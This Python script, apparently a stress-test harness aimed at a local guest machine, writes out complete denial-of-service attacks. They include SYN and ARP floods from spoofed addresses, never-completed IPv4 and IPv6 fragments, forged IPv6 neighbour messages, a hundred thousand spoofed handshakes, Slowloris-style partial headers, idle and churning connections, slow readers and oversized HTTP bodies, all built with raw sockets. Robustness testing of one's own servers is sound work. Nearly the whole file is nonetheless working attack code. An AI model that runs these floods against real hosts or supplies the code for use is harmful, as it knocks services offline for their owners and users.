# SPDX-License-Identifier: ISC
# attack.py KIND SECONDS INTERFACE MAC GUEST [GUEST6] - one kind of overload against 10.x.y.z GUEST for so long:
#   syn      segments that open connections, from addresses that never answer
#   arp      requests from every address of the network, each of another station
#   heads    clients that send a request's head a byte at a time and never finish it
#   idle     clients that connect and say nothing
#   connects clients that connect, leave and connect again
#   readers  clients that ask for a large page again and again and read nothing
#   fragments  first fragments of datagrams that never become whole, from everywhere
#   fragments6 the same over IPv6
#   neighbours solicitations and advertisements of IPv6 from stations that there are not
#   many     a hundred thousand connections, each from a client of its own, who answers and then says nothing; it takes as long as it takes
#   oversized  clients that send a head, a field or a body without end
# Says how much it did on standard output.
import os, random, select, socket, struct, sys, time

kind, seconds, interface, mac, guest = sys.argv[1], float(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
until = time.time() + seconds
guest_mac = bytes.fromhex(mac.replace(":", ""))
net = bytes(map(int, guest.split(".")))
done = 0

def summed(data):
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def syn():
    source = bytes([172, 16 + random.randrange(16), random.randrange(256), 1 + random.randrange(254)])
    tcp = struct.pack("!HHIIBBHHH", 1024 + random.randrange(60000), 80, random.getrandbits(32), 0, 0x60, 2, 65535, 0, 0) + b"\2\4\5\xb4"
    c = summed(source + net + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, net)
    ip = ip[:10] + struct.pack("!H", summed(ip)) + ip[12:]
    return guest_mac + b"\2" + os.urandom(5) + b"\x08\0" + ip + tcp

def fragment():
    data = os.urandom(1480)
    source = bytes([172, 16 + random.randrange(16), random.randrange(256), 1 + random.randrange(254)])
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), random.getrandbits(16), 0x2000 | random.randrange(40) * 185, 64, 17, 0, source, net)
    ip = ip[:10] + struct.pack("!H", summed(ip)) + ip[12:]
    return guest_mac + b"\2" + os.urandom(5) + b"\x08\0" + ip + data

def arp():
    who = b"\2" + os.urandom(5)
    source = net[:2] + bytes([net[2], 3 + random.randrange(250)])
    return b"\xff" * 6 + who + b"\x08\6" + struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 1, who, source, b"\0" * 6, net)

# ---- IPv6: GUEST6 is an address of the link
guest6 = socket.inet_pton(socket.AF_INET6, sys.argv[6]) if len(sys.argv) > 6 else None

def frame6(source, next_header, payload, hops, to=None):
    head = struct.pack("!IHBB16s16s", 0x60000000, len(payload), next_header, hops, source, guest6)
    return (to or guest_mac) + b"\2" + os.urandom(5) + b"\x86\xdd" + head + payload

def station():
    return b"\xfe\x80" + bytes(6) + os.urandom(8)

def fragment6():
    data = struct.pack("!BBHI", 17, 0, random.randrange(40) * 1432 | 1, random.getrandbits(32)) + os.urandom(1432)
    return frame6(station(), 44, data, 64)

def neighbour():
    source = station()
    kind = random.choice((135, 136))
    about = guest6 if kind == 135 else source
    message = struct.pack("!BBHI16sBB6s", kind, 0, 0, 0 if kind == 135 else 0x60000000, about, 1 if kind == 135 else 2, 1, b"\2" + os.urandom(5))
    c = summed(source + guest6 + struct.pack("!II", len(message), 58) + message)
    return frame6(source, 58, message[:2] + struct.pack("!H", c) + message[4:], 255)

# ---- A hundred thousand handshakes: what does not change between them is summed once
MANY = 100000

def many():
    global done
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x800))
    raw.bind((interface, 0))
    raw.setblocking(False)
    ours = b"\2\0\0\0\0\x77"
    sum_of = lambda data: sum(struct.unpack("!%dH" % (len(data) // 2), data))
    fixed_ip = sum_of(struct.pack("!BBHHHBBH4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, net))
    fixed_tcp = sum_of(net + struct.pack("!HH", 6, 20))

    def folded(s):
        s = (s & 0xffff) + (s >> 16)
        return ~((s & 0xffff) + (s >> 16)) & 0xffff

    def segment(source, port, seq, ack, flags):
        sum_source = (source >> 16) + (source & 0xffff)
        words = port + 80 + (seq >> 16) + (seq & 0xffff) + (ack >> 16) + (ack & 0xffff) + (0x5000 | flags) + 1024
        return guest_mac + ours + b"\x08\0" + struct.pack("!BBHHHBBHI4sHHIIHHHH", 0x45, 0, 40, 0, 0x4000, 64, 6, folded(fixed_ip + sum_source),
            source, net, port, 80, seq, ack, 0x5000 | flags, 1024, folded(fixed_tcp + sum_source + words), 0)

    def send(data):
        while True:
            try:
                return raw.send(data)
            except BlockingIOError:
                select.select([], [raw], [], 0.1)

    answered = 0
    def answer():
        nonlocal answered
        while True:
            try:
                got = raw.recv(128)
            except BlockingIOError:
                return
            if len(got) < 54 or got[26:30] != net or got[47] & 0x17 != 0x12:
                continue
            source, = struct.unpack("!I", got[30:34])
            if source >> 20 != 0xac1:
                continue
            port, = struct.unpack("!H", got[36:38])
            seq, ack = struct.unpack("!II", got[38:46])
            send(segment(source, port, ack, (seq + 1) & 0xffffffff, 0x10))
            answered += 1

    for i in range(MANY):
        send(segment(0xac100000 + (i * 7919 & 0xfffff), 1024 + i % 60000, i * 2654435761 & 0xffffffff, 0, 2))
        done += 1
        if i % 16 == 0:
            answer()
        if i % 64 == 0:
            time.sleep(0.002)       # a client beside it shares this processor
    time.sleep(0.2)
    answer()
    done = "%d, and %d were answered" % (done, answered)

def connect():
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex((guest, 80))
    return s

def frames(make):
    global done
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0))
    while time.time() < until:
        for _ in range(50):
            raw.send(make())
            done += 1
        time.sleep(0.005)

def clients(number, first, more):
    global done
    open_ones = set()
    while time.time() < until:
        while len(open_ones) < number:
            open_ones.add(connect())
            done += 1
        _, writable, _ = select.select([], open_ones, [], 0.2)
        for s in writable:
            try:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) or (not more and select.select([s], [], [], 0)[0] and not s.recv(1)):
                    raise OSError
                if kind == "connects":
                    raise OSError
                if first:
                    s.send(first if more is None else more)
            except OSError:
                open_ones.discard(s)
                s.close()
        time.sleep(0.01 if kind == "connects" else 0.1)

def oversized():
    global done
    begins = [b"GET /", b"GET / HTTP/1.1\r\nX: ", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9223372036854775807\r\n\r\n",
              b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nfffffff\r\n"]
    while time.time() < until:
        s = socket.socket()
        s.settimeout(1)
        try:
            s.connect((guest, 80))
            s.send(begins[done % len(begins)])
            for _ in range(64):
                s.send(b"x" * 16384)
        except OSError:
            pass                            # refused in the middle of it, as it should be
        s.close()
        done += 1

senders = {"syn": syn, "arp": arp, "fragments": fragment, "fragments6": fragment6, "neighbours": neighbour}
if kind in senders:
    frames(senders[kind])
elif kind == "many":
    many()
elif kind == "oversized":
    oversized()
elif kind == "heads":
    clients(400, b"GET / HTTP/1.1\r\n", b"x")
elif kind == "idle":
    clients(900, b"", b"")
elif kind == "connects":
    clients(200, b"", b"")
elif kind == "readers":
    clients(100, b"GET /large.bin HTTP/1.1\r\nHost: x\r\n\r\n", None)
print(done)
